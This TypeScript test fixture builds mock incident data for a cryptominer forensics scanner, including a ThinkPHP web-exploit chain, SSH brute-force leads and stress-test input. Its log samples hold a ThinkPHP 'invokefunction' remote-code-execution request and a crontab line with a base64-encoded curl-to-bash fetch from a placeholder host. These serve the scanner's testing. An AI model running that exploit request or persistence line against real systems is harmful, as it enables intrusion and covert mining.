/** How it got in on the hosts of the tests: one that is proven, one where the logs begin too late, one that a fool would draw. */
import type { ScanResult } from '../model/result.ts';
import { miningResult, miningResultChinese } from './result.fixture.ts';

type Incident = Pick<
  ScanResult,
  | 'entry'
  | 'excluded'
  | 'firstMaliciousFile'
  | 'infectionWindow'
  | 'onset'
  | 'horizon'
  | 'gaps'
  | 'told'
  | 'neighbours'
  | 'families'
  | 'hosts'
>;
type Way = NonNullable<ScanResult['entry']>[number];

const access = '/var/log/nginx/access.log';
const attacker = '198.51.100.77';
const crontab = '/var/spool/cron/crontabs/www-data';

const excluded: Way['excluded'] = [
  { vector: 'ssh-brute-force', service: 'sshd', what: 'failed-guesses', count: 4211 },
  { vector: 'ssh-key', service: 'sshd', what: 'usual-key', count: 38, from: '198.51.100.23' },
  { vector: 'web-exploit', service: 'phpunit', what: 'phpunit-eval-stdin', status: 404, count: 12 },
];

export const provenWay: Way = {
  vector: 'web-exploit',
  grade: 'confirmed',
  attackers: [attacker, '2001:db8::77'],
  account: 'www-data',
  firstSuccess: '2026-11-21T03:11:20Z',
  service: 'thinkphp',
  chain: [
    {
      step: 'attempt',
      time: '2026-11-21T02:58:03Z',
      certain: true,
      source: access,
      line: 48_112,
      text: `${attacker} - - [21/Nov/2026:02:58:03 +0000] "GET /index.php?s=index/index HTTP/1.1" 200 612 "-" "curl/8.5"`,
    },
    {
      step: 'success',
      time: '2026-11-21T03:11:20Z',
      certain: true,
      source: access,
      line: 48_390,
      text: `${attacker} - - [21/Nov/2026:03:11:20 +0000] "GET /index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array HTTP/1.1" 200 31`,
    },
    {
      step: 'file',
      time: '2026-11-21T03:11:41Z',
      certain: true,
      source: '/tmp/.X11-unix/.rsync/c/run',
      text: '/tmp/.X11-unix/.rsync/c/run',
    },
    {
      step: 'persistence',
      time: '2026-11-21T03:12:02Z',
      certain: true,
      source: crontab,
      line: 3,
      text: '*/5 * * * * echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi44MC9pLnNoIHwgYmFzaA== | base64 -d | bash',
    },
    {
      step: 'miner',
      time: '2026-11-21T03:12:44Z',
      certain: true,
      source: '/proc/4711/stat',
      text: '/tmp/.X11-unix/.rsync/c/kswapd0 (pid 4711)',
    },
  ],
  missing: [],
  excluded,
};

const leadWay: Way = {
  vector: 'ssh-brute-force',
  grade: 'possible',
  attackers: ['203.0.113.40'],
  account: 'backup',
  firstSuccess: '2026-11-22T22:40:09Z',
  service: 'sshd',
  chain: [
    {
      step: 'success',
      time: '2026-11-22T22:40:09Z',
      certain: false,
      source: '/var/log/auth.log',
      line: 911,
      text: 'Nov 22 22:40:09 web-03 sshd[8123]: Accepted password for backup from 203.0.113.40 port 50211 ssh2',
    },
  ],
  missing: ['no-file-within-minutes', 'owner-differs', 'other-door-proven'],
  excluded,
};

const horizon: Incident['horizon'] = [
  { source: '/var/log/wtmp', from: '2025-09-30T11:02:17Z', to: '2026-11-23T19:20:01Z', certain: true },
  { source: `${access}.14.gz`, from: '2026-11-09T06:25:01Z', to: '2026-11-10T06:25:00Z', certain: true },
  { source: `${access}.1`, from: '2026-11-22T06:25:03Z', to: '2026-11-23T06:25:02Z', certain: true },
  { source: access, from: '2026-11-23T06:25:07Z', to: '2026-11-23T19:30:55Z', certain: true },
  { source: '/var/log/auth.log.1', from: '2026-11-15T00:00:11Z', to: '2026-11-22T00:00:01Z', certain: false },
  { source: '/var/log/auth.log', from: '2026-11-22T00:00:19Z', to: '2026-11-23T19:20:02Z', certain: false },
];

function family(
  standing: 'attributed' | 'lead',
  id: string,
  name: string,
  confidence: number,
): NonNullable<ScanResult['families']>[number] {
  return {
    id,
    standing,
    name: { en: name, 'zh-CN': name },
    confidence,
    indicators: [
      {
        kind: 'file-path',
        value: '/tmp/.X11-unix/.rsync',
        weight: 3,
        shared: false,
        source: 'a public rule set',
        times: 4,
        evidence: [{ source: '/proc/4711/maps', line: 2, text: '/tmp/.X11-unix/.rsync/c/kswapd0 (deleted)' }],
      },
      {
        kind: 'process-name',
        value: 'kswapd0',
        weight: 1,
        shared: true,
        source: 'a public report',
        times: 1,
        evidence: [{ source: '/proc/4711/mem', offset: 4096, text: 'kswapd0' }],
      },
    ],
    rivals: standing === 'lead' ? [] : ['watchdog', 'unknown-to-this-page'],
  };
}

/** A flaw of a web application, proven; the customer was asked. */
export const provenStory: Incident = {
  entry: [provenWay, leadWay],
  firstMaliciousFile: {
    path: '/tmp/.X11-unix/.rsync/c/run',
    time: '2026-11-21T03:11:41Z',
    grounded: true,
  },
  infectionWindow: {
    from: '2026-11-21T03:11:20Z',
    to: '2026-11-21T03:11:41Z',
    boundedBy: { from: 'success', to: 'file' },
  },
  onset: {
    time: '2026-11-21T03:12:44Z',
    by: 'miner',
    certain: false,
    witnesses: [
      {
        by: 'miner',
        time: '2026-11-21T03:12:44Z',
        source: '/proc/4711/stat',
        text: '/tmp/.X11-unix/.rsync/c/kswapd0 (pid 4711)',
      },
      {
        by: 'load',
        time: '2026-11-21T03:20:00Z',
        source: '/var/log/sysstat/sa21',
        text: 'busy 99.1 % over 600 s',
      },
    ],
  },
  horizon,
  gaps: [
    {
      source: '/var/log/auth.log.1',
      what: 'silent',
      from: '2026-11-21T03:14:00Z',
      to: '2026-11-21T09:02:31Z',
      line: 871,
    },
    { source: '/var/log/lastlog', what: 'emptied', to: '2026-11-21T03:15:10Z' },
  ],
  told: {
    appeared: '2026-11-22T00:00:00Z',
    discovered: '2026-11-23T09:15:00Z',
    handled: '2026-11-23T18:40:00Z',
    until: { appeared: '2026-11-23T00:00:00Z' },
    network: [{ subnet: '10.0.2.0/24', zone: 'dmz', reach: ['office'] }],
    contradictions: [
      { what: 'miner-after-handled', told: '2026-11-23T18:40:00Z', evidence: '2026-11-23T18:44:00Z' },
    ],
  },
  neighbours: [
    { address: '10.0.2.31', subnet: '10.0.2.0/24', zone: 'dmz', why: ['connected', 'own-subnet'] },
    { name: 'db-1', address: '10.0.9.4', subnet: '10.0.9.0/24', zone: 'office', why: ['known-host'] },
    { hashed: 12, why: ['known-host'] },
    { subnet: '10.0.2.0/24', zone: 'dmz', why: ['own-subnet'] },
    { subnet: '10.0.9.0/24', zone: 'office', why: ['reached'] },
    { subnet: '10.0.11.0/24', zone: 'backup', why: ['reaches'] },
  ],
  families: [
    family('attributed', 'kinsing', 'Kinsing (H2Miner)', 88),
    family('lead', 'watchdog', 'WatchDog', 20),
  ],
  hosts: [
    {
      name: 'db-1',
      logs: 3,
      events: 90_412,
      from: '2026-11-01T00:00:03Z',
      to: '2026-11-23T19:00:00Z',
      entry: [{ ...leadWay, grade: 'probable' }],
    },
    { name: 'mail', logs: 2, events: 1_200, entry: [] },
  ],
};

export const provenResult: ScanResult = { ...miningResult, ...provenStory };
export const provenResultChinese: ScanResult = { ...miningResultChinese, ...provenStory };

/** Logs that begin when it was here already: nothing is known but by when. */
export const lateStory: Incident = {
  entry: [],
  excluded,
  firstMaliciousFile: { path: '/usr/bin/.sshd', time: '2026-10-02T04:00:00Z', grounded: false },
  infectionWindow: { to: '2026-11-20T23:00:00Z', boundedBy: { to: 'load' } },
  onset: { time: '2026-11-20T23:00:00Z', by: 'load', certain: true, witnesses: [] },
  horizon: [
    { source: '/var/log/auth.log', from: '2026-11-22T00:00:19Z', to: '2026-11-23T19:20:02Z', certain: true },
  ],
  gaps: [],
};

export const lateResult: ScanResult = { ...miningResult, ...lateStory };

/** Hundreds of lines, years apart, in every text an attack on whoever reads it. */
export function hostileStory(hostile: string): Incident {
  const chain = Array.from({ length: 300 }, (_, index): Way['chain'][number] => ({
    step: (['attempt', 'success', 'file', 'persistence', 'miner'] as const)[index % 5] ?? 'attempt',
    time: new Date(Date.UTC(1996 + (index % 40), index % 12, 1)).toISOString().replace('.000', ''),
    certain: index % 2 === 0,
    source: `/var/log/${hostile}`,
    line: index + 1,
    text: `${hostile}${'挖'.repeat(3000)}`,
  }));
  const way: Way = {
    ...provenWay,
    attackers: Array.from({ length: 300 }, () => hostile),
    account: hostile,
    service: hostile,
    chain: [...chain, { ...provenWay.chain[0], time: hostile, text: hostile } as Way['chain'][number]],
    missing: ['history-short'],
    excluded: Array.from({ length: 300 }, (_, count) => ({
      vector: 'web-exploit' as const,
      service: hostile,
      what: `${hostile}${count}`,
      count,
      from: hostile,
    })),
  };
  return {
    entry: Array.from({ length: 40 }, () => way),
    firstMaliciousFile: { path: hostile, time: '1970-01-01T00:00:00Z', grounded: false },
    infectionWindow: {
      from: '2030-01-01T00:00:00Z',
      to: '1999-01-01T00:00:00Z',
      boundedBy: { from: 'quiet-load', to: 'load' },
    },
    onset: {
      time: hostile,
      by: 'job',
      certain: false,
      witnesses: [{ by: 'job', time: hostile, source: hostile, text: hostile }],
    },
    horizon: Array.from({ length: 700 }, (_, index) => ({
      source: `${hostile}${index}`,
      from: '2001-01-01T00:00:00Z',
      to: hostile,
      certain: false,
    })),
    gaps: Array.from({ length: 200 }, (_, index) => ({
      source: `${hostile}${index % 3}`,
      what: 'clock-back' as const,
      from: '2030-01-01T00:00:00Z',
      to: '1980-01-01T00:00:00Z',
    })),
    told: {
      appeared: hostile,
      network: [],
      contradictions: [{ what: 'appeared-before', told: hostile, evidence: hostile }],
    },
    neighbours: Array.from({ length: 300 }, () => ({
      subnet: hostile,
      zone: hostile,
      address: hostile,
      why: ['attacker' as const],
    })),
    families: Array.from({ length: 50 }, () => ({
      ...family('attributed', hostile, hostile, 1),
      indicators: [
        {
          kind: 'string' as const,
          value: hostile,
          weight: 2,
          shared: false,
          source: hostile,
          times: 9,
          evidence: [{ source: hostile, text: hostile }],
        },
      ],
      rivals: [hostile],
    })),
    hosts: Array.from({ length: 400 }, () => ({
      name: hostile,
      logs: 1,
      events: 1,
      from: hostile,
      entry: [way],
    })),
  };
}
